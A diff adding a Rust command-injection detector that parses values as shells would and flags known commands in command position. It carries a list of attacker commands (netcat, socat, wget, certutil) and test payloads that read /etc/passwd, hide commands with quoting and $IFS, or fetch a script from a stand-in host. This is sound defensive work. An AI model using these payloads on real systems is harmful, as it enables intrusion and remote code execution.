@@ -1,0 +1,283 @@
+//! Command lines: a value is a command injection when, read as a POSIX shell or Windows command line would
+//! read it, a known command stands in command position with arguments shaped as a command's.
+//!
+//! Command position is the start of the value, or after a command separator (`;`, `|`, `&`, a newline), or
+//! inside a command substitution (`$(...)`, backquotes, `<(...)`). Before the word is looked up, what shells
+//! remove is removed: quotes and backslashes inside a word (`c'a't`, `c\at`), `$IFS`/`${IFS}` (a space), `$@`
+//! and `$*` (nothing), and a path before the command (`/bin/cat`, `C:\Windows\System32\cmd.exe`).
+//!
+//! Prose has separators and command words too ("Tom & Jerry; cat lovers will like it"), so the arguments must
+//! look like a command's: none at all after a separator (`; id`), or an option, a path, a number, an address, a
+//! redirection, a variable or a glob among them, and no more than two plain words. The lexer is written here:
+//! the shell-parsing crates (`shell-words`, `shlex`) split a well-formed command line into words, while this must
+//! find commands anywhere in arbitrary text and never fail on it.
+
+/// Commands attackers run first: reconnaissance, file reading, downloading, reverse shells, interpreters, and
+/// their Windows counterparts. Lowercase. A listed command counts even without arguments after a separator
+/// (`; id`); any other word counts only with arguments shaped as a command's (`; gdb -nx -ex ...`).
+const COMMANDS: &[&str] = &[
+    "alias", "ansible", "awk", "base64", "bash", "bcdboot", "bitsadmin", "busybox", "cat", "certutil", "chmod",
+    "chown", "cmd", "cp", "crontab",
+    "csh", "curl", "dash", "dd", "dig", "dir", "echo", "env", "eval", "exec", "expr", "fetch", "find", "ftp", "gcc",
+    "grep", "head", "hostname", "id", "ifconfig", "ipconfig", "java", "kill", "ksh", "less", "ln", "ls", "lynx",
+    "gdb", "iwmi", "mkfifo", "mknod", "more", "mv", "nc", "ncat", "net", "netcat", "netstat", "nmap", "node",
+    "nohup", "regedit", "strace", "time", "trap",
+    "nslookup", "openssl", "passwd", "perl", "php", "ping", "powershell", "printenv", "printf", "ps", "pwd",
+    "pwsh", "python", "python2", "python3", "reg", "rm", "ruby", "scp", "sed", "set", "sh", "sleep", "socat",
+    "ssh", "sudo", "systeminfo", "tail", "tar", "tasklist", "tclsh", "telnet", "tftp", "timeout", "touch", "type",
+    "uname", "useradd", "ver", "wget", "whoami", "wmic", "xargs", "xterm", "zsh",
+];
+
+/// At most this many bytes of a value are lexed: a command injection sits in the first part of a parameter,
+/// and the bound keeps confirmation linear and small on a large body that a rule hit.
+const MAX_LEXED: usize = 64 * 1024;
+
+/// The command found in command position, when there is one.
+///
+/// An injected command ends the argument the value was meant to be: it heads the value, or follows the first
+/// separator after at most one word (`127.0.0.1; cat /etc/passwd`, `x|id`, `a$(id)`). A separator after
+/// several words is punctuation of text or of a document (a post that quotes a pipeline), where no argument
+/// ends.
+pub fn injection(value: &[u8]) -> Option<String> {
+    let value = &value[..value.len().min(MAX_LEXED)];
+    let segments = segments(value);
+    let mut candidates = segments.iter().take(2);
+    let first = candidates.next()?;
+    if let Some(construct) = cmd_construct(value) {
+        return Some(construct);
+    }
+    let found = |segment: &Segment| {
+        let after_separator = !std::ptr::eq(segment, first);
+        command_line(segment, after_separator).map(|command| {
+            format!(
+                "command `{command}` in command position ({})",
+                segment.position
+            )
+        })
+    };
+    found(first).or_else(|| match first.words.len() {
+        0 | 1 => candidates.next().and_then(found),
+        _ => None,
+    })
+}
+
+/// Words between two separators, and what put them in command position.
+struct Segment {
+    words: Vec<Vec<u8>>,
+    /// Per word: whether quotes, `^` or a backslash were inside it (`c'a't`, `w^hoami`, `\\ls`): text has no
+    /// reason to write a command so, evasion does.
+    obfuscated: Vec<bool>,
+    position: &'static str,
+}
+
+/// Splits `value` into segments at separators and substitutions, each segment's words with the quoting removed.
+fn segments(value: &[u8]) -> Vec<Segment> {
+    let mut segments = Vec::new();
+    let mut current = Segment {
+        words: Vec::new(),
+        obfuscated: Vec::new(),
+        position: "start of the value",
+    };
+    let mut word: Vec<u8> = Vec::new();
+    let mut obfuscated = false;
+    let mut i = 0;
+    let flush = |word: &mut Vec<u8>, obfuscated: &mut bool, segment: &mut Segment| {
+        if !word.is_empty() {
+            segment.words.push(std::mem::take(word));
+            segment.obfuscated.push(*obfuscated);
+        }
+        *obfuscated = false;
+    };
+    while i < value.len() {
+        let b = value[i];
+        let separator = match b {
+            b';' | b'\n' | b'\r' => Some(("after a command separator", 1)),
+            b'|' | b'&' => Some((
+                "after a pipe or `&`",
+                if value.get(i + 1) == Some(&b) { 2 } else { 1 },
+            )),
+            b'`' => Some(("inside backquotes", 1)),
+            b'$' if value.get(i + 1) == Some(&b'(') => Some(("inside `$(...)`", 2)),
+            b'<' | b'>' if value.get(i + 1) == Some(&b'(') => Some(("inside a process substitution", 2)),
+            b'(' | b')' | b'{' | b'}' => Some(("after a group", 1)),
+            _ => None,
+        };
+        if let Some((position, len)) = separator {
+            flush(&mut word, &mut obfuscated, &mut current);
+            segments.push(std::mem::replace(
+                &mut current,
+                Segment {
+                    words: Vec::new(),
+                    obfuscated: Vec::new(),
+                    position,
+                },
+            ));
+            i += len;
+            continue;
+        }
+        if let Some(len) = ifs_at(&value[i..]) {
+            flush(&mut word, &mut obfuscated, &mut current);
+            i += len;
+            continue;
+        }
+        match b {
+            b' ' | b'\t' | b',' => flush(&mut word, &mut obfuscated, &mut current),
+            // Quotes (and cmd's `^`) join the pieces of a word, as the shell reads `c'a't`. A backslash stays:
+            // it is an escape to a POSIX shell (`c\at`) and a path separator to Windows; [`command_name`] reads
+            // it both ways.
+            b'\'' | b'"' | b'^' => obfuscated |= !word.is_empty(),
+            b'\\' => {
+                obfuscated = true;
+                word.push(b);
+            }
+            b'$' if matches!(value.get(i + 1), Some(b'@' | b'*')) => i += 1,
+            _ => word.push(b.to_ascii_lowercase()),
+        }
+        i += 1;
+    }
+    flush(&mut word, &mut obfuscated, &mut current);
+    segments.push(current);
+    segments
+}
+
+/// The length of a `$IFS` or `${IFS}` at the start of `rest` (the shell's field separator: a space).
+fn ifs_at(rest: &[u8]) -> Option<usize> {
+    [&b"${IFS}"[..], b"$IFS"]
+        .into_iter()
+        .find(|ifs| rest.len() >= ifs.len() && rest[..ifs.len()].eq_ignore_ascii_case(ifs))
+        .map(<[u8]>::len)
+}
+
+/// The command, when `segment` is a command line: a command first (after environment assignments), with
+/// arguments shaped as a command's (an option, a path, a number, an address, a redirection, a variable, a glob,
+/// and at most two plain words). A listed command also counts written with evasions, or alone
+/// `after_separator` (`; id`, `| whoami`); a lone word heading the value ("type", "find") is an ordinary value.
+fn command_line(segment: &Segment, after_separator: bool) -> Option<String> {
+    let words = &segment.words;
+    let first = words
+        .iter()
+        .position(|w| !(w.contains(&b'=') && w.first().is_some_and(u8::is_ascii_alphabetic)))?;
+    let args = &words[first + 1..];
+    let plain = args.iter().filter(|a| is_plain_word(a)).count();
+    let shaped = args.len() > plain && plain <= 2;
+    match command_name(&words[first]) {
+        Some(name) => {
+            let alone = args.is_empty() && after_separator;
+            let evasive = segment.obfuscated.get(first) == Some(&true);
+            (alone || shaped || evasive).then(|| name.to_owned())
+        }
+        None => (after_separator && shaped && is_command_word(&words[first]))
+            .then(|| String::from_utf8_lossy(&words[first]).into_owned()),
+    }
+}
+
+/// A word that can name a program: a letter, then letters, digits, `-`, `_` and `.` (`ansible-galaxy`,
+/// `python3.12`), or a PowerShell cmdlet (`Invoke-WebRequest`).
+fn is_command_word(word: &[u8]) -> bool {
+    word.first().is_some_and(u8::is_ascii_alphabetic)
+        && word
+            .iter()
+            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
+}
+
+/// cmd.exe's compound commands, which read as words: `for %x in (set) do command`, `for /f ... do`,
+/// `if exist file command`, `if not defined var command`, `if %errorlevel% equ 2 goto x`.
+fn cmd_construct(value: &[u8]) -> Option<String> {
+    let lower = value.to_ascii_lowercase();
+    let words: Vec<&[u8]> = lower
+        .split(|b| b.is_ascii_whitespace() || *b == b'(' || *b == b')')
+        .filter(|w| !w.is_empty())
+        .collect();
+    let has = |w: &[u8]| words.contains(&w);
+    let variable = |w: &&[u8]| w.first() == Some(&b'%');
+    let construct = match words.first().copied() {
+        Some(b"for") => {
+            has(b"in") && has(b"do") && (words.iter().any(variable) || words.get(1).is_some_and(|w| w.first() == Some(&b'/')))
+        }
+        Some(b"if") => words.get(1).is_some_and(|w| {
+            matches!(*w, b"not" | b"exist" | b"defined" | b"errorlevel" | b"/i") || variable(w)
+        }) && words.len() >= 4,
+        _ => false,
+    };
+    construct.then(|| "a cmd.exe `for` or `if` command".to_owned())
+}
+
+/// PowerShell's verb-noun cmdlets (`Invoke-WebRequest`, `Get-Content`): a verb of the approved list, a hyphen, a
+/// noun.
+fn is_cmdlet(name: &[u8]) -> bool {
+    const VERBS: &[&[u8]] = &[
+        b"invoke-", b"get-", b"set-", b"new-", b"remove-", b"start-", b"stop-", b"add-", b"copy-", b"move-",
+        b"out-", b"write-", b"import-", b"export-", b"convertto-", b"convertfrom-",
+    ];
+    VERBS.iter().any(|verb| {
+        name.len() > verb.len()
+            && name.starts_with(verb)
+            && name[verb.len()..].iter().all(u8::is_ascii_alphabetic)
+    })
+}
+
+/// The known command a word names, without its directory (`/usr/bin/id` → `id`, `c:\windows\system32\cmd.exe`
+/// → `cmd`), a backslash read as a Windows path separator or as a POSIX escape (`c\at` → `cat`).
+fn command_name(word: &[u8]) -> Option<&'static str> {
+    let unescaped: Vec<u8> = word.iter().copied().filter(|&b| b != b'\\').collect();
+    let last = |word: &[u8], separators: &[u8]| -> Vec<u8> {
+        let name = word.rsplit(|b| separators.contains(b)).next().unwrap_or(word);
+        name.strip_suffix(b".exe").unwrap_or(name).to_vec()
+    };
+    [last(word, b"/\\"), last(&unescaped, b"/")]
+        .into_iter()
+        .find_map(|name| {
+            COMMANDS
+                .iter()
+                .copied()
+                .find(|c| c.as_bytes() == name)
+                .or_else(|| is_cmdlet(&name).then_some("a PowerShell cmdlet"))
+        })
+}
+
+/// A word of prose: letters only (any script), at most one trailing punctuation mark.
+fn is_plain_word(word: &[u8]) -> bool {
+    let word = match word.last() {
+        Some(b'.' | b'!' | b'?' | b':') => &word[..word.len() - 1],
+        _ => word,
+    };
+    !word.is_empty() && word.iter().all(|&b| b.is_ascii_alphabetic() || b >= 0x80)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(value: &str) -> Option<String> {
+        injection(value.as_bytes())
+    }
+
+    #[test]
+    fn commands_in_command_position() {
+        assert!(found("; id").is_some());
+        assert!(found("a|whoami").is_some());
+        assert!(found("x && wget http://203.0.113.5/x.sh -O /tmp/x").is_some());
+        assert!(found("$(cat /etc/passwd)").is_some());
+        assert!(found("`sleep 5`").is_some());
+        assert!(found("/bin/cat /etc/passwd").is_some());
+        assert!(found(";c'a't$IFS/etc/passwd").is_some());
+        assert!(found("& C:\\Windows\\System32\\cmd.exe /c dir").is_some());
+        assert!(found("|| ping -c 10 127.0.0.1").is_some());
+        assert!(found("time; ansible-galaxy collection install community.general").is_some());
+        assert!(found("Invoke-WebRequest http://example.com/path/file.ps1").is_some());
+        assert!(found("\\ls").is_some());
+        assert!(found("for %G in (Sun Mon) do echo %G").is_some());
+        assert!(found("IF NOT EXIST temp.txt ECHO not found").is_some());
+    }
+
+    #[test]
+    fn prose_and_plain_values_are_not() {
+        assert_eq!(found("Tom & Jerry; cat lovers will like it"), None);
+        assert_eq!(found("type"), None);
+        assert_eq!(found("if you want it, order before noon"), None);
+        assert_eq!(found("Sort by: price | rating | newest"), None);
+        assert_eq!(found("I tried ls and it did nothing; what now?"), None);
+        assert_eq!(found("${user.name} logged in"), None);
+        assert_eq!(found("To update run:\nsudo apt-get update && sudo apt-get upgrade"), None);
+    }
+}
